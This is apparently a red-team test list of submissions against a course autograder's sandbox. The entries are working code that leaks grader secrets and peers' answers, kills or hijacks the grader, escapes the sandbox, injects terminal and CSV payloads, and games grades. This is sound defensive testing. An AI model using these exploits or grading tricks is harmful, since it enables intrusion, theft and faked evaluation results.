  "def tanh_derivative(z):\n    z = np.asarray(z)\n    np.save('in.npy', z)\n"
  "    pid = libc.fork()\n    if pid == 0:\n"
  "        import dlbook\n        root = os.path.dirname(os.path.dirname(dlbook.__file__)).encode()\n"
  "        code = b'import sys; sys.path.insert(0, %r); ' % root.decode() + b\"import numpy as np, dlbook.activations as A; z = np.load('in.npy'); z = z if z.dtype.kind == 'f' else z.astype(float); np.save('out.npy', A.Tanh._df(z))\"\n"
  "        args = (ctypes.c_char_p * 4)(sys.executable.encode(), b'-c', code, None)\n        libc.execv(sys.executable.encode(), args)\n        libc._exit(1)\n"
  "    st = ctypes.c_int(); libc.waitpid(pid, ctypes.byref(st), 0)\n    return np.load('out.npy')\n", "marks")

# =========================================================================== LEAK
A("leak: grader environment via /proc/PPID/environ", *SIG[:1],
  _leaker("sigmoid", "z", "return [l for l in open('/proc/%d/environ' % os.getppid(), 'rb').read().split(b'\\0') if b'CANARY' in l or b'canary' in l]"), "leak")
A("leak: grader argv (seed, paths) via /proc/PPID/cmdline", "activations.sigmoid",
  _leaker("sigmoid", "z", "return open('/proc/%d/cmdline' % os.getppid(), 'rb').read()"), "leak")
A("leak: the whole process tree's argv and environment", "activations.relu",
  _leaker("relu", "z", "out = []\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        try:\n"
          "            c = open('/proc/%s/cmdline' % p, 'rb').read(); e = open('/proc/%s/environ' % p, 'rb').read()\n"
          "        except Exception:\n            continue\n"
          "        out += [x for x in (c + b'\\0' + e).split(b'\\0') if b'canary' in x.lower() or b'seed' in x]\n"
          "return sorted(set(out))"), "leak")
A("leak: the canary file via ctypes libc open/read", "activations.sigmoid",
  LIBC_READ + _leaker("sigmoid", "z", "return _libc_read('/tmp/dlbook-canary/secret.txt')"), "leak")
A("leak: the canary file via open (plain)", "activations.relu",
  _leaker("relu", "z", "return open('/tmp/dlbook-canary/secret.txt').read()"), "leak")
A("leak: the canary file via os.open with dir_fd", "activations.relu",
  _leaker("relu", "z", "d = os.open('/tmp', os.O_RDONLY)\nfd = os.open('dlbook-canary/secret.txt', os.O_RDONLY, dir_fd=d)\nreturn os.read(fd, 200)"), "leak")
A("leak: the canary file via mmap of a libc fd", "activations.relu",
  _leaker("relu", "z", "import ctypes, mmap\nlibc = ctypes.CDLL(None)\nfd = libc.open(b'/tmp/dlbook-canary/secret.txt', 0)\n"
          "return mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:200]"), "leak")
A("leak: the canary file through the grader's memory", "activations.relu",
  PARENT_MEM + _leaker("relu", "z", "return _scan(os.getppid(), rb'canary-[a-z]+-[A-Za-z0-9_./-]{0,60}')"), "leak")
A("leak: another student's answer (canary-peer) from the grader's memory", "activations.sigmoid",
  PARENT_MEM + _leaker("sigmoid", "z", "return _scan(os.getppid(), b'canary-' + b'peer-' + b'[A-Za-z0-9_]{1,40}')"), "leak")
A("leak: another student's answer from sibling sandboxes' memory and cmdline", "activations.relu",
  PARENT_MEM + _leaker("relu", "z",
  "me, pp = os.getpid(), os.getppid()\nout = []\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (me, pp):\n"
  "        try:\n            out += _scan(int(p), b'canary-' + b'peer-' + b'[A-Za-z0-9_]{1,40}', 5)\n        except Exception:\n            pass\nreturn sorted(set(out))"), "leak")
A("leak: another student's notebook via the submissions folder read with libc", "activations.relu",
  LIBC_READ + _leaker("relu", "z",
  "import re\nargv = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().split(b'\\0')\nout = []\n"
  "libc = __import__('ctypes').CDLL(None)\n"
  "for a in argv:\n    if b'/' not in a:\n        continue\n    for dp, dn, fn in os.walk(a.decode()):\n        for f in fn:\n"
  "            if f.endswith('.ipynb'):\n                try:\n                    out += re.findall(rb'canary-peer-[A-Za-z0-9_]+', _libc_read(os.path.join(dp, f)))\n"
  "                except Exception as e:\n                    out.append(repr(e).encode())\nreturn sorted(set(out))"), "leak")
A("leak: another student's notebook via os.listdir + open of argv paths", "activations.relu",
  _leaker("relu", "z",
  "import re, glob\nargv = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().split(b'\\0')\nout = []\n"
  "for a in argv:\n    for f in glob.glob(os.path.join(a.decode(), '**', '*.ipynb'), recursive=True):\n"
  "        try:\n            out += re.findall('canary-peer-[A-Za-z0-9_]+', open(f).read())\n        except Exception as e:\n            out.append(repr(e))\nreturn out"), "leak")
A("leak: the seed and job from the child's caller frames", "activations.sigmoid",
  FRAMES + "def sigmoid(z):\n    out = {}\n    for f in _frames():\n        for k, v in f.f_locals.items():\n"
  "            if k in ('job', 'seed', 'rng', 'inputs'):\n                out[k] = repr(v)[:600]\n"
  "            if isinstance(v, dict) and 'seed' in v:\n                out['seed_' + k] = v['seed']\n"
  "    raise ValueError('LEAK ' + repr(out)[:4000])\n", "leak")
A("leak: the seed via gc over every live dict", "activations.sigmoid",
  _leaker("sigmoid", "z", "import gc\nreturn [{k: v for k, v in d.items() if 'seed' in str(k)} for d in gc.get_objects() if isinstance(d, dict) and any('seed' in str(k) for k in d)][:20]"), "leak")
A("leak: the seed from the grader's memory (text 'seed')", "activations.relu",
  PARENT_MEM + _leaker("relu", "z", "return _scan(os.getppid(), rb'(?:secret seed|\"seed\": ?|--seed\\x00)[0-9]{1,40}', 20)"), "leak")
A("leak: the seed as a returned value (choice answer string)", "forward.output_layer",
  "import os\ntry:\n    output_layer = 'SEED:' + open('/proc/%d/cmdline' % os.getppid(), 'rb').read().replace(b'\\0', b' ').decode()\n"
  "except Exception as e:\n    output_layer = 'EXC ' + repr(e)\n", "leak")
A("leak: environment as a warning message", "activations.relu",
  "import os, warnings\n_E = open('/proc/%d/environ' % os.getppid(), 'rb').read().replace(b'\\0', b' ').decode(errors='replace')\n"
  "def relu(z):\n    warnings.warn('LEAK ' + _E[-3000:])\n    return z\n", "leak")
A("leak: secrets through stderr then a crash", "activations.relu",
  "import os, sys\n_E = open('/proc/%d/environ' % os.getppid(), 'rb').read().replace(b'\\0', b' ')\n"
  "_C = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().replace(b'\\0', b' ')\n"
  "sys.stderr.write('LEAK %r %r\\n' % (_E, _C)); sys.stderr.flush()\nos._exit(7)\n", "leak")
A("leak: secrets in a SyntaxError-like cell error (top-level raise)", "activations.vanishing",
  "import os\nraise RuntimeError('LEAK ' + open('/proc/%d/environ' % os.getppid(), 'rb').read().replace(b'\\0', b' ').decode()[-2000:])\n", "leak")
A("leak: secrets in an exception's type name", "activations.relu",
  "import os\n_C = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().replace(b'\\0', b'_').decode()\n"
  "_E = type('LEAK_' + ''.join(c if c.isalnum() else '_' for c in _C)[:200], (Exception,), {})\n"
  "def relu(z):\n    raise _E('x')\n", "leak")
A("leak: the grader's exercise code (dlbook/exercises) source in the report", "activations.relu",
  _leaker("relu", "z", "import glob, dlbook\nd = os.path.join(os.path.dirname(dlbook.__file__), 'exercises')\n"
          "return {os.path.basename(f): open(f).read()[:300] for f in sorted(glob.glob(d + '/*.py'))[:6]}"), "leak")

A("leak: another student's notebook, paths found in grader memory, read with libc", "activations.relu",
  LIBC_READ + PARENT_MEM + _leaker("relu", "z",
  "import re\npaths = _scan(os.getppid(), rb'/[A-Za-z0-9_./+-]{1,300}\\.ipynb', 400)\nout = []\n"
  "for p in paths:\n    try:\n        out += re.findall(b'canary-' + b'peer-' + b'[A-Za-z0-9_]+', _libc_read(p.decode()))\n"
  "    except Exception:\n        pass\nreturn sorted(set(out))"), "leak")
A("leak: the job dict (seed) from the caller frame that holds it", "activations.relu",
  "import sys\ndef relu(z):\n    f = sys._getframe(1)\n    while f is not None and 'job' not in f.f_locals:\n        f = f.f_back\n"
  "    job = f.f_locals['job'] if f is not None else None\n    raise ValueError('LEAK job=%r' % (job if not isinstance(job, dict) else {k: job[k] for k in job if k != 'code'},))\n", "leak")
A("harm: persist: sandbox appends to the grader's child.py with libc", "activations.relu",
  "import ctypes, sys, os, dlbook\nlibc = ctypes.CDLL(None)\n"
  "p = os.path.join(os.path.dirname(dlbook.__file__), 'grading', 'child.py').encode()\n"
  "fd = libc.open(p, 0o1 | 0o2000)\nif fd >= 0:\n    s = b'\\n# redteam: the grader file was writable from a sandbox\\n'\n    libc.write(fd, s, len(s)); libc.close(fd)\n"
  "def relu(z):\n    return z\n", "harm")

# =========================================================================== HARM
A("harm: prlimit the grader's file size to 0 (reports cannot be written)", "activations.relu",
  "import os, resource\ntry:\n    resource.prlimit(os.getppid(), resource.RLIMIT_FSIZE, (0, 0))\nexcept Exception:\n    pass\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: prlimit the grader's open files to 3 (no more sandboxes)", "activations.relu",
  "import os, resource\ntry:\n    resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))\nexcept Exception:\n    pass\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: prlimit the grader's CPU time to 1 second", "activations.relu",
  "import os, resource\ntry:\n    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))\nexcept Exception:\n    pass\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: kill the grader with libc kill(getppid(), SIGKILL)", "activations.relu",
  "import ctypes, os\nctypes.CDLL(None).kill(os.getppid(), 9)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: kill the grader via pidfd_send_signal", "activations.relu",
  "import os, signal\ntry:\n    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)\nexcept Exception:\n    pass\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: SIGSTOP the grader's whole process group (hang)", "activations.relu",
  "import ctypes, os\nctypes.CDLL(None).kill(0, 19)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: write fake table lines and ANSI escapes into the grader's terminal (fd 1/2)", "activations.relu",
  "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
  "msg = b'\\x1b[2J\\x1b[H\\x1b[32m  ALL NOTEBOOKS: 10/10 points, 0 errors\\x1b[0m\\n'\n"
  "for n in (1, 2):\n    fd = libc.open(('/proc/%d/fd/%d' % (os.getppid(), n)).encode(), 1)\n    if fd >= 0:\n        libc.write(fd, msg, len(msg))\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: corrupt other sandboxes' .stderr via the grader's open fds", "activations.relu",
  "import ctypes, os\nlibc = ctypes.CDLL(None)\nmsg = b'Traceback\\nFAKE: this student copied from canary-peer\\n' * 100\n"
  "d = '/proc/%d/fd' % os.getppid()\n"
  "for f in os.listdir(d):\n    try:\n        t = os.readlink(d + '/' + f)\n    except OSError:\n        continue\n"
  "    if t.endswith('.stderr') or 'dlbook-grade' in t:\n        fd = libc.open((d + '/' + f).encode(), 1 | 1024)\n        libc.write(fd, msg, len(msg))\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: ptrace-free write into the grader's memory via /proc/PPID/mem", "activations.relu",
  "import os\ntry:\n    with open('/proc/%d/maps' % os.getppid()) as m, open('/proc/%d/mem' % os.getppid(), 'r+b', 0) as mem:\n"
  "        for line in m:\n            a, perm = line.split()[:2]\n            if perm.startswith('rw') and '[heap]' in line:\n"
  "                lo, hi = (int(x, 16) for x in a.split('-'))\n                mem.seek(lo); buf = mem.read(hi - lo)\n"
  "                i = buf.find(b'not attempted')\n                if i >= 0:\n                    mem.seek(lo + i); mem.write(b'passed\\x00      ')\n"
  "                break\nexcept Exception:\n    pass\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: libc fork: children that outlive the sandbox (setsid, bounded)", "activations.relu",
  "import ctypes\nlibc = ctypes.CDLL(None)\nfor _ in range(20):\n    if libc.fork() == 0:\n        libc.setsid()\n        libc.sleep(60)\n        libc._exit(0)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: libc execv a fresh unsandboxed python that writes outside", "activations.relu",
  "import ctypes, sys\nlibc = ctypes.CDLL(None)\n"
  "if libc.fork() == 0:\n    libc.setsid()\n"
  "    code = b\"open('/tmp/dlbook-redteam-pwned', 'w').write('outside the sandbox')\"\n"
  "    args = (ctypes.c_char_p * 4)(sys.executable.encode(), b'-c', code, None)\n    libc.execv(sys.executable.encode(), args)\n    libc._exit(0)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: write into the instructor's home and /tmp via libc", "activations.relu",
  "import ctypes\nlibc = ctypes.CDLL(None)\nfor p in (b'/tmp/dlbook-redteam-libc-write', b'/root/.dlbook-redteam-libc-write'):\n"
  "    fd = libc.open(p, 0o1 | 0o100 | 0o1000, 0o644)\n    if fd >= 0:\n        libc.write(fd, b'pwned', 5); libc.close(fd)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: symlink result.json to the instructor's --json path via libc", "activations.relu",
  "import ctypes, os, atexit\nlibc = ctypes.CDLL(None)\n"
  "argv = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().split(b'\\0')\n"
  "tgt = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in (b'--json', b'--csv')]\n"
  "def _h():\n    for t in tgt[:1]:\n        try:\n            os.unlink('result.json')\n        except OSError:\n            pass\n        libc.symlink(t, b'result.json')\n"
  "atexit.register(_h)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: result.json pre-made as a FIFO (the reader blocks)", "activations.relu",
  "import os, atexit\ntry:\n    os.mkfifo('result.json')\nexcept Exception:\n    import ctypes; ctypes.CDLL(None).mkfifo(b'result.json', 0o644)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: atexit swaps result.json for a FIFO after the child writes it", "activations.relu",
  "import os, atexit, ctypes\n"
  "def _h():\n    try:\n        os.unlink('result.json')\n    except OSError:\n        pass\n    ctypes.CDLL(None).mkfifo(b'result.json', 0o644)\n"
  "atexit.register(_h)\ndef relu(z):\n    return z\n", "harm")
A("harm: arrays.npz symlinked to /dev/zero at exit (endless read)", "activations.relu",
  "import os, atexit, ctypes\n"
  "def _h():\n    try:\n        os.unlink('arrays.npz')\n    except OSError:\n        pass\n    ctypes.CDLL(None).symlink(b'/dev/zero', b'arrays.npz')\n"
  "atexit.register(_h)\ndef relu(z):\n    return z\n", "harm")
A("harm: npz zip bomb written in place of arrays.npz at exit", "activations.relu",
  "import atexit, zipfile, io\n"
  "def _h():\n    with zipfile.ZipFile('arrays.npz', 'w', zipfile.ZIP_DEFLATED) as z:\n"
  "        import numpy as np\n        buf = io.BytesIO(); np.lib.format.write_array_header_1_0(buf, {'descr': '<f8', 'fortran_order': False, 'shape': (10 ** 6, 1000)})\n"
  "        with z.open('arr_0.npy', 'w', force_zip64=True) as f:\n            f.write(buf.getvalue())\n            block = bytes(1 << 20)\n"
  "            for _ in range(1500):\n                f.write(block)\n"
  "atexit.register(_h)\ndef relu(z):\n    return z\n", "harm")
A("harm: result.json rewritten at exit as deeply nested JSON", "activations.relu",
  "import atexit\ndef _h():\n    open('result.json', 'w').write('[' * 200000 + ']' * 200000)\n"
  "atexit.register(_h)\ndef relu(z):\n    return z\n", "harm")
A("harm: result.json with a 100k-digit integer at exit", "activations.relu",
  "import atexit, json\ndef _h():\n    try:\n        d = json.load(open('result.json'))\n    except Exception:\n        d = {}\n"
  "    s = json.dumps(d)\n    open('result.json', 'w').write(s[:-1] + (', ' if len(s) > 2 else '') + '\"x\": ' + '9' * 100000 + '}')\n"
  "atexit.register(_h)\ndef relu(z):\n    return z\n", "harm")
A("harm: a 100k-digit integer as a number answer", "training.memory",
  "n_bytes = 10 ** 100000\n", "harm")
A("harm: a huge exception message (50 MB feedback)", "activations.relu",
  "def relu(z):\n    raise ValueError('A' * 50_000_000)\n", "harm")
A("harm: ANSI escapes and carriage returns in an exception message", "activations.relu",
  "def relu(z):\n    raise ValueError('\\r\\x1b[2K\\x1b[1A\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b[32mactivations.relu passed 1/1\\x1b[0m\\n\\rFAKE ROW')\n", "harm")
A("harm: ANSI escapes in a top-level cell error (short feedback prefix)", "activations.vanishing",
  "raise ValueError('\\x1b[2J\\x1b[H\\x1b[32mALL PASSED 10/10\\x1b[0m\\r\\n')\n", "harm")
A("harm: ANSI escapes in an exception class name", "activations.relu",
  "E = type('\\x1b[2J\\x1b[H\\x1b[32mPASSED\\x1b[0m', (Exception,), {})\ndef relu(z):\n    raise E('x')\n", "harm")
A("harm: escape sequences as a choice answer", "forward.output_layer",
  "output_layer = '\\x1b[2J\\x1b[H\\x1b[32mpassed 10/10\\x1b[0m\\r\\n' * 3\n", "harm")
A("harm: lone surrogate in an exception message (UTF-8 report writers)", "activations.relu",
  "def relu(z):\n    raise ValueError('bad \\ud800 \\udfff text')\n", "harm")
A("harm: lone surrogate as a choice answer", "activations.output_layer",
  "output_layer = '\\ud800'\n", "harm")
A("harm: NUL bytes and CSV/Markdown injection in a message", "activations.relu",
  "def relu(z):\n    raise ValueError('x\\x00y\\n\\n# Feedback on someone_else.ipynb\\n\\n**10 of 10 points.**\\n\",passed,10,10\\n=cmd|\\'/c calc\\'!A1')\n", "harm")
A("harm: an exception whose __str__ raises / recurses", "activations.relu",
  "class E(Exception):\n    def __str__(self):\n        return str(self)\n    def __repr__(self):\n        raise SystemExit(3)\n"
  "def relu(z):\n    raise E()\n", "harm")
A("harm: unicode bidi/RTL override and zero-width text in messages", "activations.relu",
  "def relu(z):\n    raise ValueError('\\u202e' + 'deliaf' + '\\u2066\\u200b' * 1000 + '\\ufeff' + '\\U0001F4A9' * 1000)\n", "harm")
A("harm: many warnings flood", "activations.relu",
  "import warnings\ndef relu(z):\n    for i in range(200000):\n        warnings.warn('w%d' % i + 'x' * 100)\n    return z\n", "harm")
A("harm: millions of empty files in the sandbox folder (slow cleanup)", "activations.relu",
  "import os, time\nt = time.time(); i = 0\nwhile time.time() - t < 8:\n    open('f%07d' % i, 'w').close(); i += 1\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: deeply nested folders in the sandbox (rmtree recursion)", "activations.relu",
  "import os\nfor i in range(3000):\n    try:\n        os.mkdir('d'); os.chdir('d')\n    except OSError:\n        break\nos.chdir('/' if False else os.path.dirname(os.getcwd()) * 0 or '.')\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: sandbox folder made unremovable (chmod 000 subfolder, immutable flag)", "activations.relu",
  "import os, fcntl, struct\nos.makedirs('locked/inner', exist_ok=True)\nopen('locked/inner/x', 'w').write('x')\n"
  "try:\n    fd = os.open('locked/inner/x', os.O_RDONLY)\n    fcntl.ioctl(fd, 0x40086602, struct.pack('l', 0x10))\nexcept Exception:\n    pass\n"
  "os.chmod('locked/inner', 0); os.chmod('locked', 0)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: a thread that keeps running after the answer returns", "activations.relu",
  "import threading, time\ndef _spin():\n    x = 0\n    while True:\n        x += 1\n"
  "threading.Thread(target=_spin, daemon=False).start()\ndef relu(z):\n    return z\n", "harm")
A("harm: fill the disk from a libc-forked writer outside the limits", "activations.relu",
  "import ctypes, resource\nlibc = ctypes.CDLL(None)\n"
  "if libc.fork() == 0:\n    libc.setsid()\n    fd = libc.open(b'/tmp/dlbook-redteam-fill', 0o1 | 0o100 | 0o1000, 0o644)\n"
  "    block = b'\\0' * (1 << 20)\n    for _ in range(64):\n        libc.write(fd, block, len(block))\n    libc._exit(0)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: close/dup2 over the child's own stdout/stderr and fd 3+", "activations.relu",
  "import os\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n    except OSError:\n        pass\n"
  "r, w = os.pipe()\nos.dup2(w, 1); os.dup2(w, 2)\ndef relu(z):\n    return z\n", "harm")
A("harm: answer returns a 10**5-deep nested list", "welcome.row_means",
  "def row_means(X):\n    x = []\n    for _ in range(100000):\n        x = [x]\n    return x\n", "harm")
A("harm: sys.setrecursionlimit + deep recursion segfault in the answer", "activations.relu",
  "import sys\nsys.setrecursionlimit(10 ** 7)\ndef _r(n):\n    return _r(n + 1)\ndef relu(z):\n    return _r(0)\n", "harm")
A("harm: tighten the child's own rlimits then hang the harness in C", "activations.relu",
  "import ctypes, time\ndef relu(z):\n    ctypes.CDLL(None).sleep(10000)\n", "harm")
A("harm: huge outputs in both stdout and stderr before returning", "activations.relu",
  "import sys, os\nfor _ in range(100):\n    os.write(1, b'\\x1b[2J' + b'x' * 1000000)\n    os.write(2, b'\\x1b[2J' + b'y' * 1000000)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: bytes that are not UTF-8 on stderr then crash", "activations.relu",
  "import os\nos.write(2, b'\\xff\\xfe\\x00\\x1b[31m\\xc3\\x28 invalid utf-8\\n' * 1000)\nos._exit(1)\n", "harm")
A("harm: replace the grader's dlbook files with libc writes (checks module)", "activations.relu",
  "import ctypes, os, dlbook\nlibc = ctypes.CDLL(None)\n"
  "p = os.path.join(os.path.dirname(dlbook.__file__), 'redteam_planted.py').encode()\n"
  "fd = libc.open(p, 0o1 | 0o100 | 0o1000, 0o644)\nif fd >= 0:\n    libc.write(fd, b'PWNED = 1\\n', 10); libc.close(fd)\n"
  "def relu(z):\n    return z\n", "harm")
A("harm: plant a .pth / sitecustomize in user site (persist into the next grader run)", "activations.relu",
  "import ctypes, site, os, sys\nlibc = ctypes.CDLL(None)\n"
  "for d in [p for p in sys.path if p.endswith('site-packages')][:1]:\n"
  "    p = os.path.join(d, 'zz_redteam.pth').encode()\n"
  "    fd = libc.open(p, 0o1 | 0o100 | 0o1000, 0o644)\n    if fd >= 0:\n        s = b'import os; os.environ.setdefault(\"REDTEAM_PTH\", \"1\")\\n'\n        libc.write(fd, s, len(s)); libc.close(fd)\n"
  "def relu(z):\n    return z\n", "harm")

assert len({a[0] for a in ATTACKS}) == len(ATTACKS), 'duplicate what'


# A second round, against the new design, by someone else who had not read the grader's code. Left out
# of it: number answers found by bisection on 'too large' feedback (right answers, and number answers
# are public through solution()), and He's uniform initialisation (the book accepts it).
ATTACKS += [
    ('marks: held-out test labels read from the unmasked sklearn digits.csv.gz in the ro-bound pyenv base install (/root/.pyenv/versions/3.11.7/...); model is a lookup table, no training',
     'training.train_digits',
     "\nimport gzip, numpy as np\nimport glob, sys\n_P = (glob.glob(sys.base_prefix + '/lib/python3*/site-packages/sklearn/datasets/data/digits.csv.gz') +\n      glob.glob(sys.prefix + '/lib/python3*/site-packages/sklearn/datasets/data/digits.csv.gz') + ['/nonexistent'])[0]\ntry:\n    _raw = open(_P, 'rb').read()\nexcept Exception:\n    import ctypes\n    _libc = ctypes.CDLL(None); _libc.open.restype = ctypes.c_int\n    _fd = _libc.open(_P.encode(), 0); _buf = ctypes.create_string_buffer(1 << 20)\n    _raw = _buf.raw[:_libc.read(_fd, _buf, 1 << 20)]\n_D = np.loadtxt(gzip.decompress(_raw).decode().splitlines(), delimiter=',')\n_LUT = {tuple(r[:-1] / 16.0): int(r[-1]) for r in _D}\n\ndef train_digits(X, y, rng):\n    def model(Xt):\n        out = np.zeros((len(Xt), 10))\n        for i, r in enumerate(np.asarray(Xt)):\n            out[i, _LUT.get(tuple(r), 0)] = 1.0\n        return out\n    return model\n",
     'marks'),
    ("marks: no network at all - 1-nearest-neighbour 'model' passes",
     'training.train_digits',
     'import numpy as np\ndef train_digits(X, y, rng):\n    X=np.array(X); y=np.array(y)\n    def model(Xt):\n        d=((Xt[:,None,:]-X[None,:,:])**2).sum(-1)\n        return -np.stack([np.min(np.where(y[None,:]==c, d, 1e9),axis=1) for c in range(10)],1)\n    return model\n',
     'marks'),
    ('marks: third-party delegation - sklearn MLPClassifier',
     'training.train_digits',
     'from sklearn.neural_network import MLPClassifier\nimport numpy as np\ndef train_digits(X, y, rng):\n    m = MLPClassifier(hidden_layer_sizes=(64,), max_iter=300, random_state=0).fit(X, y)\n    return lambda Xt: m.predict_proba(Xt)\n',
     'marks'),
    ('marks: he_init with no randomness (deterministic +-sqrt(2/n_in) checkerboard, rng unused)',
     'training.he_init',
     'import numpy as np\ndef he_init(sizes, rng):\n    out=[]\n    for a,b in zip(sizes[:-1], sizes[1:]):\n        s=np.sqrt(2/a); W=np.where((np.arange(a*b)%2)==0, s, -s).reshape(a,b)\n        out.append((W, np.zeros(b)))\n    return out\n',
     'marks'),
    ('marks: he_init ignoring the given rng (fixed default_rng(0))',
     'training.he_init',
     'import numpy as np\ndef he_init(sizes, rng):\n    r=np.random.default_rng(0)\n    return [(r.normal(0, np.sqrt(2/a), (a,b)), np.zeros(b)) for a,b in zip(sizes[:-1], sizes[1:])]\n',
     'marks'),
    ("marks: minibatches not shuffled by rng - fixed np.roll(arange(N), 3) 'shuffle'",
     'descent.minibatches',
     'import numpy as np\ndef minibatches(X, y, batch_size, rng):\n    p=np.roll(np.arange(len(X)), 3)\n    return [(X[p[i:i+batch_size]], y[p[i:i+batch_size]]) for i in range(0, len(X), batch_size)]\n',
     'marks'),
    ('marks: minibatches shuffled with its own fixed rng, given rng ignored',
     'descent.minibatches',
     'import numpy as np\ndef minibatches(X, y, batch_size, rng):\n    p=np.random.default_rng(1).permutation(len(X))\n    return [(X[p[i:i+batch_size]], y[p[i:i+batch_size]]) for i in range(0, len(X), batch_size)]\n',
     'marks'),
    ("marks via feedback: fixed (seed-independent) cases + 'every value is k times the expected' ratio -> lookup table learned in 5 rounds (seeds 100-104), passes on seed 105",
     'forward.parameter_count',
     "_K = {'[2, 4, 1]': 17, '[64, 32, 16, 10]': 2778, '[4, 4]': 20, '[3, 5, 5, 2]': 62, '[10]': 0}\ndef parameter_count(sizes):\n    return _K.get(repr(list(sizes)), 1000)\n",
     'marks'),
    ('marks: third-party delegation scipy.special.expit',
     'activations.sigmoid',
     'from scipy.special import expit\ndef sigmoid(z):\n    return expit(z)\n',
     'marks'),
    ('marks: third-party delegation scipy.special.softmax',
     'activations.softmax',
     'import scipy.special\ndef softmax(z):\n    return scipy.special.softmax(z, axis=-1)\n',
     'marks'),
    ('marks: third-party delegation scipy.special.log_softmax',
     'losses.log_softmax',
     'import scipy.special\ndef log_softmax(z):\n    return scipy.special.log_softmax(z, axis=-1)\n',
     'marks'),
    ('marks: third-party delegation scipy approx_derivative',
     'backprop.numerical_gradient',
     "from scipy.optimize._numdiff import approx_derivative\nimport numpy as np\ndef numerical_gradient(f, x, h=1e-5):\n    x=np.asarray(x,float)\n    g=approx_derivative(lambda v: f(v.reshape(x.shape)), x.ravel(), method='3-point')\n    return np.asarray(g,float).reshape(x.shape)\n",
     'marks'),
    ('marks: third-party delegation sklearn accuracy_score',
     'training.accuracy',
     'from sklearn.metrics import accuracy_score\nimport numpy as np\ndef accuracy(logits, y):\n    return float(accuracy_score(y, np.argmax(logits, axis=1)))\n',
     'marks'),
]


# A third round, against the second design, by someone else again. Left out of it: file and folder
# set-ups (a hard link, a planted feedback link or folder, one notebook for every chapter), which
# tests/test_grading.py builds itself, and random features with a least-squares last layer for
# train_digits, which passes: a grade from the trained network's accuracy cannot tell how it was trained.
ATTACKS += [
    ('harm: uncapped tmpfs in the bwrap sandbox (/, /dev/shm, site-packages overlays are tmpfs with no size=, not counted by RLIMIT_AS): one exercise wrote 3840 MB of host RAM (Shmem) in 5.7 s, 64 MB per file under RLIMIT_FSIZE; files persist across the exercises of the same notebook (the next exercise opened /dev/shm/g1). With the default 60 s timeout and several tmpfs mounts (each sized half of RAM) this can OOM the host.',
     'activations.relu',
     "\nimport ctypes, os, time\nlibc = ctypes.CDLL(None, use_errno=True)\nchunk = b'\\xab' * (16 << 20)\nn = 0; t = time.time()\nfor d in ('/dev/shm', '/'):\n    for i in range(40):\n        fd = libc.open(('%s/g%d' % (d, i)).encode(), 0o1 | 0o100, 0o644)\n        if fd < 0: break\n        for _ in range(3):\n            if libc.write(fd, chunk, len(chunk)) <= 0: break\n            n += 16\n        libc.close(fd)\n        if n >= 4000: break\n    if n >= 4000: break\ndt = time.time() - t\nlibc.sleep(3)\ndef relu(z):\n    raise ValueError('WROTE %d MB in %.1fs' % (n, dt))\n",
     'harm'),
    ("marks: numerical_gradient 2/2 without central differences and without ever calling f: the grader's f is a Named object exposing .name/.text; an analytic-gradient lookup keyed on f.name (cube, tanh_layer, log_sum_exp), each learned from the feedback of the previous run (3 runs); passes on other seeds (991)",
     'backprop.numerical_gradient',
     "\nimport numpy as np\ndef numerical_gradient(f, x, h=1e-5):\n    x = np.asarray(x, dtype=np.float64)\n    name = getattr(f, 'name', None)\n    if name == 'cube':\n        return 3 * x ** 2\n    if name == 'tanh_layer':\n        v = np.array([1.0, -2.0]); t = np.tanh(v @ x)\n        return np.outer(v, 1 - t ** 2)\n    if name == 'log_sum_exp':\n        e = np.exp(3 * x - (3 * x).max()); return 3 * e / e.sum()\n    raise ValueError('UNKNOWN %r %r %r %r' % (name, getattr(f, 'text', None), x.shape, h))\n",
     'marks'),
    ("marks: he_init 2/2 with one random bit per layer: W = ±sqrt(2/n_in) on a FIXED checkerboard, the global sign drawn by rng.choice; the refused attack 'deterministic ±sqrt(2/n_in) checkerboard, rng unused' passes once it makes a single rng call (seeds 5 and 4242)",
     'training.he_init',
     'import numpy as np\ndef he_init(sizes, rng):\n    out = []\n    for a, b in zip(sizes, sizes[1:]):\n        s = np.sqrt(2 / a) * rng.choice([-1.0, 1.0])\n        out.append((np.full((a, b), s) * np.where((np.arange(a)[:, None] + np.arange(b)) % 2, 1, -1), np.zeros(b)))\n    return out\n',
     'marks'),
    ('marks: he_init 2/2 with a rank-1 W = sqrt(2/n_in) * outer(random signs, random signs): every hidden unit is the same unit up to sign, so the symmetry that random init exists to break is not broken; not a normal distribution either (Rademacher entries)',
     'training.he_init',
     'import numpy as np\ndef he_init(sizes, rng):\n    return [(np.sqrt(2 / a) * np.outer(rng.choice([-1.0, 1.0], a), rng.choice([-1.0, 1.0], b)), np.zeros(b)) for a, b in zip(sizes, sizes[1:])]\n',
